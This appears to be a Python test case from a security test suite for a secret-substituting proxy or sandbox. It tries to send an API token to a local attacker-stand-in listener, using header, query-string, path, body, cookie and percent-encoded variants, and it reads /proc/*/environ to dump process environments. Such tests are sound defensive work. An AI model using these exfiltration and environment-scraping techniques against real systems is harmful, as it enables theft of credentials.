"""The value of a secret, whose placeholder is sent where it does not belong"""

import base64
import os
import socket
import urllib.parse

from attack import Host, Setup
from attack import Trick as Base


class Trick(Base):
    area = "secrets"

    def prepare(self, host: Host) -> Setup:
        def answer(client: socket.socket) -> None:
            client.settimeout(0.5)
            seen = b""
            try:
                while part := client.recv(65536):
                    seen += part
            except OSError:
                pass
            # Whatever arrives is the attacker's.
            try:
                client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(seen), seen))
            except OSError:
                pass

        at = f"127.0.0.2:{host.serve('127.0.0.2', answer)}"
        setup = Setup(at)
        setup.project = host.dir("project")
        setup.env["API_TOKEN"] = host.token
        setup.settings = f"""
allow_hosts = ["http://{at}"]
[secrets.api]
env = "API_TOKEN"
value_env = "API_TOKEN"
hosts = ["api.example.org", "{at}"]
headers = ["authorization", "cookie"]
query = ["key"]
"""
        return setup

    def inside(self, at: str) -> None:
        held = os.environ["API_TOKEN"]
        proxy = os.environ.get("HTTP_PROXY")
        name, port = proxy.split("//")[1].split(":") if proxy else at.split(":")
        pair = base64.b64encode(f"me:{held}".encode()).decode()
        escaped = "".join(f"%{ord(c):02x}" for c in held)
        for target, headers, body in (
            ("/", f"Authorization: Bearer {held}\r\n", ""),
            ("/", f"Authorization: Basic {pair}\r\n", ""),
            ("/", f"AUTHORIZATION: {held.upper()}\r\n", ""),
            ("/", f"Host-{held}: x\r\n", ""),
            (f"/?key={held}", "", ""),
            (f"/?key={escaped}", "", ""),
            (f"/?key={urllib.parse.quote(escaped)}", "", ""),
            (f"/{held}", "", ""),
            ("/", "", held),
            ("/", f"Cookie: a=b; c={held}\r\n", held),
        ):
            try:
                with socket.create_connection((name, int(port)), timeout=3) as stream:
                    stream.settimeout(3)
                    to = f"http://{at}{target}" if proxy else target
                    stream.sendall(
                        f"POST {to} HTTP/1.1\r\nHost: {at}\r\n{headers}Content-Length: {len(body)}\r\n\r\n{body}".encode()
                    )
                    while said := stream.recv(65536):
                        print(said.decode(errors="replace"))
            except OSError as error:
                print(target[:20], error)
        for pid in (1, os.getpid(), os.getppid()):
            try:
                with open(f"/proc/{pid}/environ", "rb") as environment:
                    print(environment.read().replace(b"\0", b"\n").decode(errors="replace"))
            except OSError as error:
                print(pid, error)
